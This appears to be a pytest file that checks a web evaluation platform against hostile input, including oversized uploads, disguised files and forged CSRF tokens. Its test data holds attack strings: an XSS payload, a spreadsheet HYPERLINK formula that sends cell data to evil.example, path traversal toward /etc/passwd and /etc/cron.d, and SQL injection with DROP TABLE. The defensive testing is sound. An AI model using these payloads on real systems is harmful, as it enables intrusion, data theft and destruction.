"""The bad-input catalogue (../shared/reference/reliability.md): each case gets a clear 4xx, never a 5xx,
says what is wrong where a person will read it, and leaves nothing stored.

Cases that live beside their domain are listed at the end with where they are tested.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from io import BytesIO
from typing import Callable

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from evalplatform.engagements import service as engagements
from evalplatform.engagements.models import Engagement, TeamRole
from evalplatform.evidence.models import Evidence
from evalplatform.reporting import service as reporting
from evalplatform.reporting.models import Report, ReportStatus
from tests import factories
from tests.conftest import csrf_token, login
from tests.evidence import files

XSS = '<script>alert("x")</script><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


@pytest.fixture
def world(session, client):
    world = factories.World(session)
    engagements.add_team_member(
        session, world.engagement, world.reviewer, TeamRole.reviewer, world.evaluator, factories.NOW
    )
    session.commit()
    login(client, world.evaluator.username)
    return world


def count(session, model) -> int:
    session.expire_all()
    return session.scalar(select(func.count()).select_from(model))


@dataclass
class Case:
    id: str
    send: Callable  # (client, world) -> response
    status: int
    message: str | None
    model: type  # rows of this model must not change


def _post(client, url, data, **kwargs):
    return client.post(url, data={"csrf_token": csrf_token(client, "/engagements"), **data}, **kwargs)


class _Zeros:
    """200 MB that are produced as they are read, so the test does not hold them in memory."""

    def __init__(self, size: int):
        self.size, self.position = size, 0

    def read(self, n: int = -1) -> bytes:
        n = self.size - self.position if n < 0 else min(n, self.size - self.position)
        self.position += n
        return b"0" * n

    def tell(self) -> int:
        return self.position

    def seek(self, position: int, whence: int = 0) -> int:
        self.position = position if whence == 0 else self.size if whence == 2 else self.position + position
        return self.position


def _huge_body(client, world):
    size = 200 * 1024 * 1024
    return client.post(
        f"/engagements/{world.engagement.id}/evidence",
        input_stream=_Zeros(size),
        content_type="multipart/form-data; boundary=b",
        content_length=size,
    )


CASES = [
    Case("200MB body", _huge_body, 413, "文件过大", Evidence),
    Case(
        "malformed multipart",
        lambda c, w: c.post(
            f"/engagements/{w.engagement.id}/evidence",
            data=b"--b\r\nContent-Disposition: form-da",
            content_type="multipart/form-data; boundary=b",
        ),
        400,
        None,
        Evidence,
    ),
    Case(
        "HTML uploaded as a photo",
        lambda c, w: _post(
            c,
            f"/engagements/{w.engagement.id}/evidence",
            {"files": [(BytesIO(files.HTML_AS_JPG), "photo.jpg")]},
            content_type="multipart/form-data",
            headers={"Accept": "application/json"},
        ),
        422,
        "不支持的文件类型",
        Evidence,
    ),
    Case(
        "SVG uploaded as a photo",
        lambda c, w: _post(
            c,
            f"/engagements/{w.engagement.id}/evidence",
            {"files": [(BytesIO(files.SVG_AS_JPG), "a.jpg")]},
            content_type="multipart/form-data",
            headers={"Accept": "application/json"},
        ),
        422,
        "不支持的文件类型",
        Evidence,
    ),
    Case(
        "pixel-flood PNG",
        lambda c, w: _post(
            c,
            f"/engagements/{w.engagement.id}/evidence",
            {"files": [(BytesIO(files.png_pixel_bomb()), "bomb.png")]},
            content_type="multipart/form-data",
            headers={"Accept": "application/json"},
        ),
        422,
        "像素过多",
        Evidence,
    ),
    Case(
        "path traversal in an id",
        lambda c, w: c.get(f"/engagements/{w.engagement.id}/evidence/..%2F..%2Fetc%2Fpasswd/download"),
        404,
        "页面不存在",
        Evidence,
    ),
    Case(
        "id out of range",
        lambda c, w: c.get(f"/engagements/{w.engagement.id}/evidence/99999999999999999999/download"),
        404,
        "页面不存在",
        Evidence,
    ),
    Case(
        "foreign CSRF token",
        lambda c, w: c.post(
            "/engagements/new",
            data={
                "csrf_token": "x" * 40,
                "title": "t",
                "evaluated_unit_name": "u",
                "kind": "project",
                "fiscal_year": "2025",
                "budget_amount": "1",
            },
        ),
        400,
        "请求已失效",
        Engagement,
    ),
    Case(
        "budget that is not a number",
        lambda c, w: _post(
            c,
            "/engagements/new",
            {
                "title": "t",
                "evaluated_unit_name": "u",
                "kind": "project",
                "commission_id": str(w.commission.id),
                "fiscal_year": "2025",
                "budget_amount": "1e309",
            },
        ),
        422,
        "金额",
        Engagement,
    ),
    Case(
        "report action that does not exist",
        lambda c, w: _post(c, f"/engagements/{w.engagement.id}/report/delete", {}),
        404,
        None,
        Report,
    ),
    Case(
        "narrative of 1 MB",
        lambda c, w: _post(
            c,
            f"/engagements/{w.engagement.id}/report/sections/other",
            {"body": "字" * 1_000_000},
            headers={"Accept": "application/json"},
        ),
        422,
        "20000",
        Report,
    ),
]


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_bad_input_gets_a_clear_4xx_and_stores_nothing(client, session, world, case):
    if case.model is Report:
        reporting.start_report(session, world.engagement, world.evaluator, factories.NOW)
        session.commit()
    before = count(session, case.model)
    response = case.send(client, world)
    assert response.status_code == case.status, response.get_data(as_text=True)[:300]
    if case.message:
        text = json.dumps(response.json, ensure_ascii=False) if response.is_json else response.get_data(as_text=True)
        assert case.message in text
    assert count(session, case.model) == before


def test_a_path_in_an_uploaded_file_name_is_cut_to_its_last_part(client, session, world):
    """The name is only a label (bytes are stored by their hash): it is cleaned, not refused (issue 17)."""
    response = _post(
        client,
        f"/engagements/{world.engagement.id}/evidence",
        {"files": [(BytesIO(files.jpeg()), "../../etc/cron.d/x.jpg")]},
        content_type="multipart/form-data",
        headers={"Accept": "application/json"},
    )
    assert response.status_code == 200
    assert session.scalar(select(Evidence.original_filename)) == "x.jpg"


def test_sql_metacharacters_in_search_and_filters_are_just_text(client, world):
    for query in ["' OR 1=1 --", "%", "_", "\\", "项目'; DROP TABLE engagement; --"]:
        response = client.get("/engagements", query_string={"q": query, "status": "x' OR '1'='1", "page": "-1"})
        assert response.status_code == 200
        assert world.engagement.title not in response.get_data(as_text=True)


def test_mass_assignment_cannot_issue_a_report_or_change_its_author(client, session, world):
    base = f"/engagements/{world.engagement.id}/report"
    _post(client, f"{base}/start", {})
    _post(
        client,
        f"{base}/header",
        {"title": "标题", "status": "issued", "author_id": str(world.reviewer.id), "issued_versions": "9"},
    )
    session.expire_all()
    report = session.scalar(select(Report))
    assert report.title == "标题" and report.status is ReportStatus.draft
    assert report.author_id == world.evaluator.id and report.issued_versions == 0


def test_script_in_narrative_and_findings_is_text_on_the_page(client, session, world):
    base = f"/engagements/{world.engagement.id}/report"
    _post(client, f"{base}/start", {})
    _post(client, f"{base}/sections/problems", {"body": XSS})
    html = client.get(base).get_data(as_text=True)
    assert XSS not in html and "&lt;script&gt;alert(" in html


def test_formulas_in_author_text_stay_text_in_exports(client, session, world):
    url = f"/engagements/{world.engagement.id}/evidence"
    _post(
        client,
        url,
        {"files": [(BytesIO(files.jpeg()), "a.jpg")], "description": FORMULA},
        content_type="multipart/form-data",
    )
    book = load_workbook(BytesIO(client.get(f"{url}/index.xlsx").data))
    cells = [c for row in book.active.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cells and all(c.data_type == "s" and c.value.startswith("'=") for c in cells)


def test_a_read_only_reader_cannot_reach_exports_outside_what_was_shared(client, session, world):
    auditor = factories.user(session, "auditor", bureau=world.bureau)
    session.commit()
    client.post("/logout", data={"csrf_token": csrf_token(client, "/engagements")})
    login(client, auditor.username)
    assert client.get(f"/engagements/{world.engagement.id}/evidence/index.xlsx").status_code == 404
    book = load_workbook(BytesIO(client.get("/bureau/export.xlsx").data))
    assert len(list(book.active.iter_rows())) == 1  # header only: nothing was shared


# Elsewhere in the suite:
#   cross-firm / cross-bureau access to every route ........ tests/engagements/test_access_control.py
#   CSRF on every state-changing route, login on every page  tests/reliability/test_security.py
#   open redirect via next, session reuse after logout or
#   disable, brute-force throttling per account+IP ......... tests/accounts/test_login.py
#   mass assignment of firm / role ......................... tests/accounts/test_login.py,
#                                                            tests/engagements/test_engagement_pages.py
#   truncated / empty / long-named uploads ................. tests/evidence/test_evidence_upload.py
#   renderer fetching file:///etc/passwd or the network .... tests/reporting/test_rendering.py
#   secrets in the audit log ............................... tests/reliability/test_security.py
